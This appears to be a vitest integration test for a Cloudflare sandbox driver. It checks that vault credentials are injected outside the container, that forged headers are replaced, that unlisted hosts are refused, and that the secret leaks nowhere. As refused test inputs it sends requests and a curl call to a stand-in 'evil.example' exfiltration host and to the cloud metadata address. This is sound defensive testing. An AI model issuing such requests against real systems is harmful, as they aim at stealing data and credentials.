import { runInDurableObject } from "cloudflare:test";
import { resolveManagedRuntimePlan } from "@open-managed-agents/managed-runtime-host";
import type {
  RuntimeResourceFence,
  RuntimeResourceScope,
} from "@open-managed-agents/runtime-resource-contract";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { createCloudflareManagedRuntimeDriver } from "../../src/index.js";
import { createD1Vault, ensureVaultSchema } from "./d1-vault.js";
import {
  CREDENTIAL_EGRESS_PROFILE,
  type ContainerResponse,
  TEST_RUNTIME_ENVIRONMENT,
  createSandbox,
  requestFromContainer,
  testEnv,
} from "./fixtures.js";

const SECRET = `oma-vault-secret-${crypto.randomUUID()}`;
const logged: string[] = [];
const signal = new AbortController().signal;

interface Echo {
  readonly headers: Record<string, string>;
  readonly url: string;
  /** sha256 hex of the Authorization header the upstream received; the echo never returns it. */
  readonly authorizationSha256: string | null;
}

function echoed(response: ContainerResponse): Echo {
  expect(response.status).toBe(200);
  return JSON.parse(response.body) as Echo;
}

async function sha256Hex(text: string): Promise<string> {
  const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text));
  return [...new Uint8Array(digest)].map((byte) => byte.toString(16).padStart(2, "0")).join("");
}

describe("credential egress through the Worker's outbound interception", () => {
  const scope: RuntimeResourceScope = {
    workspaceId: "ws",
    environmentId: "env",
    sessionId: `egress-${crypto.randomUUID()}`,
    workId: "work-1",
  };
  const fence: RuntimeResourceFence = {
    ...scope,
    ownerId: "owner",
    generation: 1,
    token: `fence-${crypto.randomUUID()}`,
    expiresAt: new Date(Date.now() + 60_000).toISOString(),
  };
  const vault = createD1Vault(testEnv.VAULT_DB);
  const driver = createCloudflareManagedRuntimeDriver(testEnv, {
    createSandbox,
    runtimeEnvironment: TEST_RUNTIME_ENVIRONMENT,
    credentialVault: vault,
    controlPlaneBaseUrl: "http://control.upstream.test",
  });
  const profile = CREDENTIAL_EGRESS_PROFILE;
  const plan = resolveManagedRuntimePlan(profile, driver.descriptor().capabilities);

  beforeAll(async () => {
    for (const method of ["log", "info", "warn", "error", "debug"] as const) {
      vi.spyOn(console, method).mockImplementation(
        (...args: unknown[]) =>
          void logged.push(
            args.map((arg) => (typeof arg === "string" ? arg : JSON.stringify(arg))).join(" "),
          ),
      );
    }
    await ensureVaultSchema(testEnv.VAULT_DB);
    await testEnv.VAULT_DB.prepare(
      "INSERT OR REPLACE INTO egress_credentials (host, header, value) VALUES (?, 'authorization', ?)",
    )
      .bind("api.upstream.test", `Bearer ${SECRET}`)
      .run();
    await testEnv.VAULT_DB.prepare("INSERT OR REPLACE INTO egress_open_hosts (host) VALUES (?)")
      .bind("open.upstream.test")
      .run();
  });
  afterAll(() => vi.restoreAllMocks());

  it("injects vault credentials live, refuses other hosts, revokes before terminate, and leaks the secret nowhere", async () => {
    expect(driver.descriptor().credentialEgress).toEqual({
      enforcement: "enforced",
      credentialMode: "live",
      interceptedProtocols: ["http", "https"],
    });
    const resources = await driver.create({
      environmentId: scope.environmentId,
      placement: "in_process",
      profile,
      plan,
      providerConfig: {},
    });
    const egress = resources.credentialEgress;
    if (!egress) throw new Error("the driver built no egress port");
    const workspace = await resources.workspace.materialize({
      scope,
      fence,
      strategy: plan.workspaceStrategy,
      activeCheckpoint: null,
      idempotencyKey: "w",
      signal,
    });
    const outputs = await resources.outputs.prepare({
      scope,
      fence,
      strategy: "final_collect",
      idempotencyKey: "o",
      signal,
    });
    const binding = await egress.prepare({
      scope,
      fence,
      requirement: "required",
      idempotencyKey: "e",
      signal,
    });
    if (!binding) throw new Error("no egress binding");
    const lease = await resources.sandbox.acquire({
      scope,
      fence,
      plan,
      workspace,
      outputs,
      credentialEgress: binding,
      signal,
    });
    await resources.outputs.attach({
      scope,
      fence,
      strategy: "final_collect",
      binding: outputs,
      sandbox: lease,
      signal,
    });
    await egress.attach({ scope, fence, binding, sandbox: lease, signal });
    const send = (url: string, init?: RequestInit): Promise<ContainerResponse> =>
      requestFromContainer(lease.runtimeId, url, init);

    // A guest-chosen Authorization header is replaced; the credential is set outside the container.
    const api = echoed(
      await send("http://api.upstream.test/repos?page=1", {
        headers: { authorization: "Bearer forged" },
      }),
    );
    const injected = await sha256Hex(`Bearer ${SECRET}`);
    expect(api.authorizationSha256).toBe(injected);
    expect(api.url).toBe("/repos?page=1");
    const apiTls = echoed(
      await send("https://api.upstream.test/tls", { method: "POST", body: "payload" }),
    );
    expect(apiTls.authorizationSha256).toBe(injected);

    // Allowed without credentials, and the control plane without asking the vault.
    expect(echoed(await send("http://open.upstream.test/pkg")).authorizationSha256).toBeNull();
    const before = vault.resolveCalls();
    const control = echoed(
      await send("http://control.upstream.test/v1/oma/inference-proxy/s", {
        headers: { authorization: "Bearer session-token" },
      }),
    );
    expect(control.authorizationSha256).toBe(await sha256Hex("Bearer session-token"));
    expect(vault.resolveCalls()).toBe(before);

    // Deny by default, for both protocols.
    for (const url of [
      "http://evil.example/exfiltrate",
      "https://evil.example/exfiltrate",
      "http://169.254.169.254/latest",
    ]) {
      const refused = await send(url);
      expect(refused.status).toBe(403);
      expect(refused.egress).toBe("egress_denied");
    }

    // The container's own processes: curl goes through the relay into the same interception.
    const guest = createSandbox(testEnv, lease.runtimeId);
    const curl = (args: string) =>
      guest.exec(`curl -sS --max-time 20 ${args}`, { timeoutMs: 30_000 });
    const fromGuest = await curl(
      "-H 'Authorization: Bearer forged' http://api.upstream.test/guest",
    );
    expect(JSON.parse(fromGuest.stdout)).toMatchObject({
      url: "/guest",
      authorizationSha256: injected,
    });
    expect((await curl("-o /dev/null -w '%{http_code}' http://evil.example/steal")).stdout).toBe(
      "403",
    );

    // The container itself holds no credential and not even the binding id.
    const runtimeView = await resources.sandbox.inspect(lease);
    expect(runtimeView.state).toBe("running");
    const sdk = guest;
    await sdk.exec(
      "mkdir -p /mnt/session/outputs && printf result > /mnt/session/outputs/result.txt",
      { timeoutMs: 10_000 },
    );
    const scan = await sdk.exec(
      `env; grep -rl -e '${SECRET}' -e '${binding.bindingId}' /workspace /tmp /mnt/session/outputs; echo "grep=$?"`,
      { timeoutMs: 20_000 },
    );
    expect(scan.stdout).toContain("grep=1");
    expect(`${scan.stdout}${scan.stderr}`).not.toContain(SECRET);
    expect(`${scan.stdout}${scan.stderr}`).not.toContain(binding.bindingId);

    const checkpoint = await resources.workspace.checkpoint({
      scope,
      fence,
      binding: workspace,
      sandbox: lease,
      idempotencyKey: "c",
      signal,
    });
    const entries = await resources.outputs.collect({
      scope,
      fence,
      strategy: "final_collect",
      binding: outputs,
      sandbox: lease,
      signal,
    });
    const manifest = await resources.outputs.finalize({
      scope,
      fence,
      binding: outputs,
      sandbox: lease,
      entries,
      idempotencyKey: "f",
      signal,
    });

    // Revoke before terminate: the vault stops serving and the container is switched to refuse everything.
    await egress.revoke({ scope, fence, binding, reason: "completed" });
    const revoked = await send("http://api.upstream.test/after-revoke");
    expect(revoked.status).toBe(403);
    expect(revoked.egress).toBe("egress_revoked");
    expect(
      (await curl("-o /dev/null -w '%{http_code}' http://api.upstream.test/after-revoke")).stdout,
    ).toBe("403");
    expect(
      await vault.resolve({
        bindingId: binding.bindingId,
        url: new URL("http://api.upstream.test/"),
        method: "GET",
      }),
    ).toMatchObject({ type: "deny" });
    await resources.sandbox.terminate({ scope, fence, lease, reason: "completed" });
    await egress.release({ scope, fence, binding });

    const stored = await runInDurableObject(
      testEnv.SANDBOX.get(testEnv.SANDBOX.idFromName(lease.runtimeId)),
      async (_instance, state) => JSON.stringify([...(await state.storage.list()).entries()]),
    );
    const listed = await testEnv.FILES_BUCKET.list();
    expect(listed.objects.length).toBeGreaterThan(0);
    const blobs = await Promise.all(
      listed.objects.map(async (object) => {
        const head = await testEnv.FILES_BUCKET.head(object.key);
        return [object.key, head?.customMetadata, head?.httpMetadata];
      }),
    );
    const records = JSON.stringify({ lease, checkpoint, manifest, entries, blobs });
    // The scan reads the object's real outbound configuration: the revocation is in it.
    expect(stored).toContain("omaCredentialEgressRevoked");
    for (const text of [records, stored, logged.join("\n")]) expect(text).not.toContain(SECRET);
    for (const text of [records, logged.join("\n")]) expect(text).not.toContain(binding.bindingId);
    expect(records).not.toContain(fence.token);
  });
});
